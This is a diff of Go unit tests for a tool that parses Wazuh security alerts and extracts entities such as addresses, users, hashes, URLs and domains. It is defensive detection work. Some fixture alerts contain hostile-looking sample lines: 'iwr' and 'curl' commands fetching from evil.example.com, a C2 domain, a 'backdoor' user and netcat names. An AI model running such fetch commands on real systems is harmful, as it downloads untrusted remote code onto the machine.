@@ -23,7 +23,7 @@ func TestWazuh(t *testing.T) {
 			all: []string{"ipaddr 203.0.113.45 remote,client", "username oracle local,subject", "hostname bastion-1 local", "ipaddr 10.0.3.12 local"},
 		},
 		"fim": {
-			name: "Integrity checksum changed.", rule: "550", severity: 40, describes: "SHA256 before: 0000000000000000000000000000000000000000000000000000000000000001",
+			name: "Integrity checksum changed.", rule: "550", severity: 40, describes: "MD5 before: 00000000000000000000000000000001\nSHA1 before: 0000000000000000000000000000000000000001\nSHA256 before: 0000000000000000000000000000000000000000000000000000000000000001",
 			all: []string{"filepath /var/www/html/index.php file,object", "filehash " + testMD5 + " file", "filehash " + testSHA1 + " file", "filehash " + testSHA256 + " file",
 				"username alice local,subject", "process /usr/bin/curl local,subject", "hostname web-1 local", "ipaddr 10.0.1.3 local"},
 		},
@@ -109,7 +109,7 @@ func TestWazuhIncidents(t *testing.T) {
 		"vulnerability": {same: [][2]string{{"23506", "23505"}, {"5.6.0", "5.6.1"}, {`"Active"`, `"Solved"`}, {"23506", "23502"}}, others: [][2]string{{"CVE-2024-3094", "CVE-2024-3095"}, {`"name":"xz-utils"`, `"name":"liblzma5"`}}},
 		"shuffle":       {same: [][2]string{{"1777888800.9", "1777888900.9"}}, others: [][2]string{{"nc.openbsd", "ncat"}}},
 		"syslog":        {same: [][2]string{{"198.51.100.10", "198.51.100.11"}}, others: [][2]string{{"203.0.113.91", "203.0.113.92"}, {"10.0.0.254", "10.0.0.253"}}},
-		"finding":       {same: [][2]string{{"f166aa6b", "00000000"}, {"vagrant", "root"}, {"node01", "node02"}}, others: [][2]string{{"203.0.113.45", "203.0.113.46"}, {`"003"`, `"004"`}}},
+		"finding":       {same: [][2]string{{"f166aa6b", "00000000"}, {"vagrant", "root"}, {"node01", "node02"}}, others: [][2]string{{"203.0.113.45", "203.0.113.46"}, {`"003"`, `"004"`}, {`"name":"wazuh"`, `"name":"other"`}, {`"name":"web-2"`, `"name":"web-3"`}}},
 		"finding-flat":  {others: [][2]string{{`x.exe`, `y.exe`}, {"203.0.113.77", "203.0.113.78"}, {`"007"`, `"008"`}}},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -122,6 +122,44 @@ func TestWazuhIncidents(t *testing.T) {
 			}
 			i.test(t)
 		})
+	}
+}
+
+// Each part of a key tells two incidents of one rule and one agent apart.
+func TestWazuhKeys(t *testing.T) {
+	for name, c := range map[string]struct {
+		data, more string
+		others     [][2]string
+	}{
+		"a value":         {"", `,"syscheck":{"path":"HKEY_LOCAL_MACHINE\\Software\\Run","value_name":"x1"}`, [][2]string{{"x1", "x2"}, {"Run", "RunOnce"}}},
+		"a policy":        {`"sca":{"policy_id":"cis_1","policy":"p","check":{"id":"28500","title":"t"}}`, "", [][2]string{{"cis_1", "cis_2"}, {"28500", "28501"}}},
+		"a policy's name": {`"sca":{"policy":"p1","check":{"title":"t1"}}`, "", [][2]string{{"p1", "p2"}, {"t1", "t2"}}},
+		"users":           {`"srcuser":"alice","dstuser":"root"`, "", [][2]string{{"alice", "bob"}, {"root", "admin"}}},
+		"a rootkit":       {`"title":"t1","file":"/usr/bin/.x"`, "", [][2]string{{"t1", "t2"}, {"/.x", "/.y"}}},
+		"YARA":            {`"yara_rule":"r","yara_scanned_file":"/srv/x.php"`, "", [][2]string{{"x.php", "y.php"}}},
+		"audit":           {`"audit":{"exe":"/usr/bin/vi","file":{"name":"/etc/passwd"}}`, "", [][2]string{{"passwd", "shadow"}, {"bin/vi", "bin/ed"}}},
+		"Windows":         {`"win":{"system":{"providerName":"p1","eventID":"4720"},"eventdata":{"a":"b"}}`, "", [][2]string{{"p1", "p2"}, {"4720", "4726"}}},
+		"AWS": {`"aws":{"id":"f1","eventName":"GetObject","userIdentity":{"arn":"arn:aws:sts::111122223333:assumed-role/r/s1"},"requestParameters":{"bucketName":"example-backups"}}`, "",
+			[][2]string{{"f1", "f2"}, {"GetObject", "PutObject"}, {"r/s1", "r/s2"}, {"example-backups", "example-logs"}}},
+		"a role at an address": {`"aws":{"eventName":"GetObject","sourceIPAddress":"203.0.113.1","userIdentity":{"arn":"arn:aws:sts::111122223333:assumed-role/r/s1"}}`, "", [][2]string{{"r/s1", "r/s2"}}},
+		"a user at an address": {`"office365":{"ClientIP":"203.0.113.1","Operation":"FileDownloaded","UserId":"alice@example.com"}`, "", [][2]string{{"alice", "bob"}, {"Downloaded", "Deleted"}}},
+		"a container":          {`"docker":{"Type":"container","Actor":{"ID":"4c1b7e90d2aa"}}`, "", [][2]string{{"4c1b", "5c1b"}}},
+		"Office 365":           {`"office365":{"UserId":"alice@example.com","Operation":"FileDeleted","ObjectId":"o1"}`, "", [][2]string{{"FileDeleted", "FileMoved"}, {"o1", "o2"}}},
+		"GitHub":               {`"github":{"actor":"alice","action":"repo.destroy","repo":"example/shop"}`, "", [][2]string{{"destroy", "rename"}, {"shop", "blog"}}},
+		"Google Cloud":         {`"gcp":{"protoPayload":{"resourceName":"projects/p/instances/i1"}}`, "", [][2]string{{"i1", "i2"}}},
+		"osquery":              {`"osquery":{"name":"q1","columns":{"path":"/tmp/x"}}`, "", [][2]string{{"q1", "q2"}, {"/tmp/x", "/tmp/y"}}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			i := incident{first: wazuhAlert(c.data, c.more)}
+			for _, r := range c.others {
+				i.others = append(i.others, with(t, i.first, r[0], r[1]))
+			}
+			i.test(t)
+		})
+	}
+	for _, name := range []string{"image", "newProcessName", "sourceImage", "targetImage", "targetFilename", "targetObject", "queryName", "serviceName", "imageLoaded", "path", "memberSid", "targetUserName"} {
+		first := wazuhAlert(`"win":{"eventdata":{"`+name+`":"one"}}`, "")
+		incident{first: first, others: []string{with(t, first, "one", "two")}}.test(t)
 	}
 }
 
@@ -173,6 +211,13 @@ func TestWazuhData(t *testing.T) {
 		"Defender":              {`"win":{"eventdata":{"threat Name":"Trojan:Win32/X","path":"file:_C:\\t\\x.exe","detection User":"CORP\\bob","process Name":"C:\\b.exe"}}`, "", []string{`filepath C:\t\x.exe file,object`, "username bob local,subject", `process C:\b.exe local,subject`}},
 		"loopback":              {`"win":{"eventdata":{"ipAddress":"127.0.0.1","targetUserName":"bob","subjectUserName":"-"}}`, "", []string{"username bob local,object"}},
 		"text only":             {"", `,"full_log":"connection to evil.example.com and 203.0.113.1 failed"`, []string{"domain evil.example.com extracted", "ipaddr 203.0.113.1 extracted"}},
+		"a name in the log":     {`"hostname":"db-7.example.com"`, "", []string{"hostname db-7.example.com local"}},
+		"hashes beside data":    {`"sha256":"` + testSHA256 + `","md5":"` + testMD5 + `"`, "", []string{"filehash " + testSHA256 + " file", "filehash " + testMD5 + " file"}},
+		"VirusTotal's own hash": {`"virustotal":{"sha1":"` + testSHA1 + `","source":{"file":"/tmp/x"}}`, "", []string{"filepath /tmp/x file,object", "filehash " + testSHA1 + " file"}},
+		"an import hash":        {`"win":{"eventdata":{"image":"C:\\x.exe","hashes":"IMPHASH=` + testMD5 + `"}}`, "", []string{`process C:\x.exe local,subject`}},
+		"what a file was":       {"", `,"syscheck":{"path":"/etc/x","md5_before":"` + testMD5 + `","sha256_before":"` + testSHA256 + `"}`, []string{"filepath /etc/x file,object"}},
+		"an account":            {`"audit":{"acct":"alice","exe":"/usr/bin/su"}`, "", []string{"username alice local,subject", "process /usr/bin/su local,subject"}},
+		"a script":              {`"win":{"eventdata":{"scriptBlockText":"iwr http://evil.example.com/x"}}`, "", []string{"url http://evil.example.com/x extracted", "domain evil.example.com extracted"}},
 		"text beside addresses": {`"srcip":"203.0.113.1"`, `,"full_log":"GET / http://bots.example.com/bot.html 203.0.113.1"`, []string{"ipaddr 203.0.113.1 remote,client"}},
 	} {
 		all := append([]string{"hostname h local", "ipaddr 10.0.0.1 local"}, c.want...)
@@ -196,9 +241,30 @@ func TestWazuhClouds(t *testing.T) {
 		"Google Cloud": {`"gcp":{"protoPayload":{"authenticationInfo":{"principalEmail":"a@example.com"},"requestMetadata":{"callerIp":"203.0.113.1"}}}`, []string{"ipaddr 203.0.113.1 remote,client", "username a@example.com local,subject"}},
 		"DNS":          {`"gcp":{"jsonPayload":{"queryName":"evil.example.","sourceIP":"10.0.0.4"}}`, []string{"ipaddr 10.0.0.4 local,client", "domain evil.example remote,object"}},
 		"an AWS role":  {`"aws":{"eventName":"GetObject","sourceIPAddress":"cloudformation.amazonaws.com","userIdentity":{"arn":"arn:aws:sts::111122223333:assumed-role/r/s"},"requestParameters":{"bucketName":"example-backups"}}`, []string{"arn arn:aws:sts::111122223333:assumed-role/r/s local,subject", "bucket example-backups local,object"}},
+		"an instance":  {`"aws":{"eventName":"TerminateInstances","userIdentity":{"userName":"alice"},"requestParameters":{"instanceId":"i-0123456789abcdef0"}}`, []string{"username alice local,subject", "instance i-0123456789abcdef0 local,object"}},
 		"GuardDuty":    {`"aws":{"source":"guardduty","accountId":"111122223333","region":"eu-west-1","type":"t","resource":{},"service":{"action":{"portProbeAction":{"portProbeDetails":{"remoteIpDetails":{"ipAddressV4":"203.0.113.1"},"localIpDetails":{"ipAddressV4":"10.0.0.7"}}}}}}`, []string{"ipaddr 203.0.113.1 remote,client", "ipaddr 10.0.0.7 local,server"}},
 	} {
 		assert.ElementsMatch(t, c.want, roles(one(t, wazuhAlert(c.data, "")).Alert), name)
+	}
+}
+
+// A finding of Wazuh 5 with what others have not.
+func TestWazuhFinding(t *testing.T) {
+	finding := func(fields string) string {
+		return `{"@timestamp":"2026-05-04T12:00:00.000Z","wazuh":{"rule":{"id":"r","title":"t","level":"high"},"agent":{"name":"h"}},` + fields + `}`
+	}
+	for fields, want := range map[string][]string{
+		`"source":{"ip":"10.0.0.1"},"destination":{"ip":"203.0.113.7","domain":"c2.example.net"},"url":{"full":"https://c2.example.net/x"}`: {"ipaddr 10.0.0.1 local,client", "ipaddr 203.0.113.7 remote,server",
+			"domain c2.example.net remote,server", "url https://c2.example.net/x"},
+		`"source":{"ip":"203.0.113.7"},"destination":{"ip":"10.0.0.1","domain":"www.example.com"}`:                      {"ipaddr 203.0.113.7 remote,client", "ipaddr 10.0.0.1 local,server"},
+		`"source":{"ip":"203.0.113.7"},"destination":{"ip":"198.51.100.1"},"host":{"ip":["198.51.100.1"]}`:              {"ipaddr 203.0.113.7 remote,client", "ipaddr 198.51.100.1 local,server"},
+		`"source":{"ip":"198.51.100.1"},"destination":{"ip":"203.0.113.7"},"host":{"ip":["198.51.100.1"]}`:              {"ipaddr 198.51.100.1 local,client", "ipaddr 203.0.113.7 remote,server"},
+		`"user":{"name":"alice","target":{"name":"backdoor"}}`:                                                          {"username alice local,subject", "username backdoor local,object"},
+		`"container":{"id":"4c1b7e90d2aa","image":{"name":"alpine"}},"cloud":{"instance":{"id":"i-0123456789abcdef0"}}`: {"container 4c1b7e90d2aa local", "image alpine local", "instance i-0123456789abcdef0 local"},
+		`"process":{"name":"sh","command_line":"curl http://evil.example.com/x","parent":{"executable":"/usr/sbin/nginx"},"hash":{"sha256":"` + testSHA256 + `"}}`: {"process sh local,subject", "process /usr/sbin/nginx local",
+			"filehash " + testSHA256 + " file", "url http://evil.example.com/x extracted", "domain evil.example.com extracted"},
+	} {
+		assert.ElementsMatch(t, append([]string{"hostname h local"}, want...), roles(one(t, finding(fields)).Alert), fields)
 	}
 }
 
